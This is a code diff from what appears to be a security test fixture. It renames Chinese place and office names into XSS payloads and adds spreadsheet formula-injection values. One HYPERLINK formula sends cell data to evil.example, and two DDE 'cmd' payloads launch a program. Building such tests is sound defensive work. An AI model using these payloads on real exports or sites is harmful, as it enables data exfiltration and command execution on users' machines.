@@ -19,7 +19,13 @@ RENAMED = {
     "宣汉县": "<svg onload=alert(4)>宣汉县",
     "开江县": '<a href="javascript:alert(5)">开江县</a>',
     "大竹县": "<script>alert(6)</script>大竹县",
+    # formulas in the downloads
+    "市委宣传部": '=HYPERLINK("http://evil.example/?d="&A1,"市委宣传部")',
+    "市教育局": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "市科学技术局": "-2+3+cmd|' /C calc'!A0",
 }
+
+FORMULAS = [RENAMED[u] for u in ("市委宣传部", "市教育局", "市科学技术局")]
 
 # Typed into the 工作动态 section of notes/2021-02.md, one per line.
 NOTES_PAYLOADS = [
